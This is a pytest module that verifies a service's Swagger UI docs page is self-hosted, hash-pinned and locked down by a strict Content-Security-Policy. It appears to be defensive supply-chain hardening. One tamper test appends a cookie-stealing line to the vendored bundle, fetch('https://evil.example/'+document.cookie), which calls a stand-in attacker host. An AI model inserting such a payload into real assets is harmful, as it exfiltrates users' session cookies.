"""The API explorer runs only code this service serves, pinned and checked (issue #12, finding 17).

`/docs` loaded Swagger UI from a CDN (unpinned, no integrity, no CSP) on the page where people
paste bearer tokens. Now every service serves it from `shared/apidocs/`: the page references no
other origin, has no inline script, carries a Content-Security-Policy, and each file is served
with the SHA-256 pinned in `vendor/README.md` (and the page's integrity hash); ReDoc and the OAuth2
redirect page are gone. The last test opens the page in headless Chromium: Swagger UI renders the
service's API under that policy, and the browser asks no other origin for anything.
"""

from __future__ import annotations

import base64
import hashlib
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from playwright.sync_api import sync_playwright

from shared import apidocs
from shared.auth import ADMIN
from tests.auth import auth
from tests.hostile.test_request_guard import _apps

VENDOR_README = Path(apidocs.__file__).parent / "vendor" / "README.md"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]


@pytest.fixture(scope="module")
def apps() -> dict[str, FastAPI]:
    return _apps()  # never started: the documentation needs no database


class Page(HTMLParser):
    """The tags of the page and every address it names."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.inline_script = ""
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.inline_script += data.strip()


def _sri(content: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(content).digest()).decode()


async def _get(app: FastAPI, path: str, **headers: str) -> httpx.Response:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://service") as client:
        return await client.get(path, headers=headers)


@pytest.mark.parametrize("service", ["registry", "eligibility", "vouchers"])
async def test_docs_name_no_other_origin_run_no_inline_script_and_carry_a_csp(
    apps: dict[str, FastAPI], service: str
) -> None:
    app = apps[service]
    page = await _get(app, "/docs")  # public, like the dashboard page: it holds no data
    assert page.status_code == 200
    policy = page.headers["content-security-policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == "'self'"
    assert directives["connect-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'"
    assert "unsafe" not in policy
    assert page.headers["x-frame-options"] == "DENY"
    assert page.headers["referrer-policy"] == "no-referrer"

    parsed = Page()
    parsed.feed(page.text)
    assert parsed.inline_script == ""
    addresses = [value for _, attrs in parsed.tags for name, value in attrs.items() if name in ("src", "href")]
    assert addresses
    assert all(value and "//" not in value and ":" not in value.replace("data:,", "") for value in addresses)
    # every script and stylesheet has an integrity hash matching what the service serves at that address
    loaded = [
        (attrs.get("src") or attrs.get("href"), attrs["integrity"])
        for tag, attrs in parsed.tags
        if "integrity" in attrs
    ]
    assert sorted(address for address, _ in loaded) == [
        "docs/assets/docs.js",
        "docs/assets/swagger-ui-bundle.js",
        "docs/assets/swagger-ui.css",
    ]
    for address, expected in loaded:
        asset = await _get(app, "/" + str(address))
        assert asset.status_code == 200
        assert _sri(asset.content) == expected
    [root] = [attrs for tag, attrs in parsed.tags if attrs.get("id") == "swagger-ui"]
    assert root["data-openapi-url"] == "/openapi.json"


async def test_bundled_files_are_served_as_pinned(apps: dict[str, FastAPI]) -> None:
    readme = VENDOR_README.read_text(encoding="utf-8")
    assert f"swagger-ui-dist@{apidocs.SWAGGER_UI_VERSION}" in readme
    for name, (_, media_type, sha256) in apidocs.VENDORED.items():
        served = await _get(apps["registry"], f"/docs/assets/{name}")
        assert served.status_code == 200
        assert served.headers["content-type"] == media_type
        assert served.headers["x-content-type-options"] == "nosniff"
        assert hashlib.sha256(served.content).hexdigest() == sha256
        assert f"`{sha256}`" in readme
    assert (await _get(apps["registry"], "/docs/assets/__init__.py")).status_code == 404


def test_a_changed_file_stops_the_service_at_start(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    copy = tmp_path / "apidocs"
    shutil.copytree(apidocs.DIRECTORY, copy)
    bundle = copy / "vendor" / "swagger-ui-bundle.js"
    bundle.write_bytes(bundle.read_bytes() + b"\nfetch('https://evil.example/'+document.cookie);")
    monkeypatch.setattr(apidocs, "DIRECTORY", copy)
    with pytest.raises(apidocs.TamperedAsset, match=r"swagger-ui-bundle\.js"):
        apidocs.load_assets()


@pytest.mark.parametrize("path", ["/redoc", "/docs/oauth2-redirect"])
async def test_redoc_and_the_oauth2_redirect_page_are_not_served(apps: dict[str, FastAPI], path: str) -> None:
    for app in apps.values():
        assert (await _get(app, path, **auth(ADMIN))).status_code == 404
        assert (await _get(app, path)).status_code == 401  # not public any more


def test_swagger_ui_renders_under_the_policy_and_asks_no_other_origin(live_registry: str) -> None:
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: run `make browser` (apt-get install chromium)", pytrace=False)
    requests: list[str] = []
    problems: list[str] = []
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        try:
            page = browser.new_page()
            page.on("request", lambda sent: requests.append(sent.url))
            page.on("pageerror", lambda error: problems.append(f"page error: {error}"))

            def console(message: Any) -> None:
                if message.type == "error":
                    problems.append(f"console: {message.text}")

            page.on("console", console)
            page.goto(live_registry + "/docs")
            page.wait_for_selector(".swagger-ui .info .title", timeout=30_000)
            page.wait_for_selector(".opblock-tag", timeout=30_000)
            title = page.inner_text(".swagger-ui .info .title")
            authorize = page.locator("button.authorize").count()
        finally:
            browser.close()
    assert "registry" in title
    assert authorize == 1  # where a bearer token is pasted
    assert problems == []  # no CSP violation, no script error
    assert requests
    assert all(url.startswith(live_registry + "/") or url.startswith("data:") for url in requests), requests
